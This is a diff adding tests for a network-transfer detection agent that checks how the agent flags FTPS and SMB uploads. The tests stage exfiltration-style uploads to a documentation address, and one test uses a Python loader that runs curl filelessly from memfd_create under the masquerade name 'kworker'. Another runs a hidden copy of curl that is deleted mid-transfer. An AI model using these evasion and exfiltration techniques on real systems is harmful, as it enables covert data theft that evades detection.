@@ -220,6 +220,100 @@ extension KernelAuditTests.FlowEndToEnd {
         #expect(alerts.contains { $0.rule == "ftp.internet" && $0.pid == f.pid }, "\(alerts.map(\.rule))")
     }
 
+    /// FTPS explicit (AUTH TLS, on 2121 and on IPv6's 21) and implicit (990): known as ftps,
+    /// the encrypted data connection paired with its session by process and server, its bytes
+    /// those on the wire (the file plus TLS's records), every FTP rule applied.
+    @Test func encryptedFTPExplicitAndImplicit() throws {
+        let file = try randomFile("tls.bin", bytes: 300_000)
+        let agent = try startAgent()
+        try #require(agent.waitForStderr(containing: "inspection: capturing", seconds: 10))
+        let explicit = try client("/usr/bin/curl", ["-s", "-k", "--ssl-reqd", "-T", file, "ftp://203.0.113.10:2121/upload/explicit.bin"])
+        let implicit = try client("/usr/bin/curl", ["-s", "-k", "-T", file, "ftps://203.0.113.10/upload/implicit.bin"])
+        let ipv6 = try client("/usr/bin/curl", ["-s", "-k", "--ssl-reqd", "-T", file, "ftp://[2001:db8::10]/upload/v6tls.bin"])
+        let lftp = try client(
+            "/usr/bin/lftp",
+            ["-u", "anonymous,x", "-e", "set ssl:verify-certificate no; set ftp:ssl-force yes; put \(file) -o upload/lftp-tls.bin; quit", "203.0.113.10:2121"])
+        let flows = try stop(agent, awaiting: [explicit, implicit, ipv6, lftp])
+        let alerts = try readAlerts()
+        for (pid, name, port) in [(explicit, "explicit", 2121), (implicit, "implicit", 990), (ipv6, "IPv6", 21), (lftp, "lftp", 2121)] {
+            let f = try #require(flow(of: pid, in: flows), "no \(name) flow: \(flows)")
+            #expect(f.networkProtocol == "ftps" && f.destinationPort == port, "\(name): \(f.json)")
+            #expect(f.dataConnections.count == 1 && roughly(f.data(0, "source"), 300_000, within: 0.03), "\(name): \(f.dataConnections)")
+            #expect(f.transferDirection == "upload" && f.bytesExact == true, "\(name)")
+            let mine = Set(alerts.filter { $0.pid == Int(pid) }.map(\.rule))
+            #expect(mine.isSuperset(of: ["an1170.noninteractive_transfer", "ftp.internet_other_path"]), "\(name): \(mine)")
+            #expect(mine.contains("transfer.nonstandard_port") == (port == 2121), "\(name): \(mine)")
+        }
+        let evidence = try #require(flow(of: implicit, in: flows)).json["xferwatch"] as? [String: Any]
+        #expect(evidence?["protocol_evidence"] as? String == "TLS on the implicit FTPS port of 203.0.113.10:990")
+    }
+
+    /// smbclient and smbget against smbd: attributed like FTP, the files their CREATE requests
+    /// name, AN1170 and SMB to the Internet.
+    @Test func smbClientsUploadAndDownload() throws {
+        for tool in ["/usr/bin/smbclient", "/usr/bin/smbget", "/usr/sbin/smbd"] {
+            try #require(FileManager.default.isExecutableFile(atPath: tool), "\(tool) is missing: run make test")
+        }
+        let file = try randomFile("share.tar", bytes: 300_000)
+        let agent = try startAgent()
+        try #require(agent.waitForStderr(containing: "inspection: capturing", seconds: 10))
+        let put = try client("/usr/bin/smbclient", ["//203.0.113.10/share", "-N", "-c", "put \(file) dump.tar"])
+        let get = try client("/usr/bin/smbget", ["-a", "-q", "-o", work + "/back.tar", "smb://203.0.113.10/share/dump.tar"])
+        let flows = try stop(agent, awaiting: [put, get])
+        let alerts = try readAlerts()
+        let up = try #require(flow(of: put, in: flows), "\(flows)")
+        #expect(up.networkProtocol == "smb" && up.destinationPort == 445 && up.transferDirection == "upload")
+        #expect(roughly(up.bytesOut, 300_000, within: 0.03), "\(String(describing: up.bytesOut))")
+        let files = (up.json["xferwatch"] as? [String: Any]).flatMap { ($0["smb"] as? [String: Any])?["files"] as? [[String: Any]] } ?? []
+        #expect(files.contains { $0["name"] as? String == "dump.tar" && $0["write"] as? Bool == true }, "\(files)")
+        let down = try #require(flow(of: get, in: flows))
+        #expect(down.networkProtocol == "smb" && down.transferDirection == "download" && roughly(down.bytesIn, 300_000, within: 0.03))
+        for pid in [put, get] {
+            let mine = Set(alerts.filter { $0.pid == Int(pid) }.map(\.rule))
+            #expect(mine.isSuperset(of: ["an1170.noninteractive_transfer", "smb.internet", "an1169.suspicious_filename"]), "\(mine)")
+        }
+        let smbAlert = try #require(alerts.first { $0.pid == Int(put) && $0.rule == "smb.internet" })
+        #expect(smbAlert.reasons.contains("wrote dump.tar"), "\(smbAlert.reasons)")
+    }
+
+    /// A client run from memfd_create, and a copy deleted while it uploads: the transfer is
+    /// attributed, and said to come from a binary with no file.
+    @Test func programsWithNoFileOnDisk() throws {
+        let file = try randomFile("fileless.bin", bytes: 300_000)
+        let loader = try commandsFile(
+            "loader.py",
+            [
+                "import os, sys",
+                "fd = os.memfd_create('kworker', 0)",
+                "os.write(fd, open('/usr/bin/curl', 'rb').read())",
+                "os.execv(f'/proc/self/fd/{fd}', ['curl', '-s', '-T', sys.argv[1], 'ftp://203.0.113.10/upload/memfd.bin'])",
+            ])
+        let dropped = work + "/.cache/kworker"
+        try FileManager.default.createDirectory(atPath: work + "/.cache", withIntermediateDirectories: true)
+        try FileManager.default.copyItem(atPath: "/usr/bin/curl", toPath: dropped)
+        let agent = try startAgent()
+        let memfd = try client("/usr/bin/python3", [loader, file])
+        // 300 kB at 150 kB/s: the agent sees the file go, at the flow's start or in its polls
+        // (every 200 ms here). It is deleted once the process runs it.
+        let running = try Child(dropped, ["-s", "--limit-rate", "150k", "-T", file, "ftp://203.0.113.10/upload/deleted.bin"])
+        let deadline = Date().addingTimeInterval(20)
+        while Date() < deadline, (try? FileManager.default.destinationOfSymbolicLink(atPath: "/proc/\(running.pid)/exe")) != dropped { usleep(10_000) }
+        try FileManager.default.removeItem(atPath: dropped)
+        running.process.waitUntilExit()
+        let flows = try stop(agent, awaiting: [memfd, running.pid])
+        let alerts = try readAlerts()
+        let loaded = try #require(flow(of: memfd, in: flows), "\(flows)")
+        #expect(loaded.executable == "/memfd:kworker (deleted)" && loaded.networkProtocol == "ftp")
+        #expect(loaded.json["xferwatch"].flatMap { ($0 as? [String: Any])?["process"] as? [String: Any] }?["executable_on_disk"] as? Bool == false)
+        #expect(loaded.dataConnections.count == 1 && loaded.data(0, "source") == 300_000)
+        for (pid, how) in [(memfd, "loaded through memfd_create"), (running.pid, "deleted")] {
+            let alert = try #require(alerts.first { $0.pid == Int(pid) && $0.rule == "transfer.no_file_executable" }, "\(how): \(alerts.map(\.rule))")
+            #expect(alert.reasons.first?.hasSuffix("has no file on disk (\(how))") == true, "\(alert.reasons)")
+            #expect(alert.json["threat.technique.id"] as? String == "T1620")
+        }
+        #expect(try #require(flow(of: running.pid, in: flows)).json["process"].flatMap { ($0 as? [String: Any])?["executable"] as? String } == dropped)
+    }
+
     /// Waits (30 s at most, for a slow, busy machine) until each pid, or a child of it, has a
     /// flow, and a flow's command line contains each of `commandLines`; stops the agent and
     /// returns every flow.
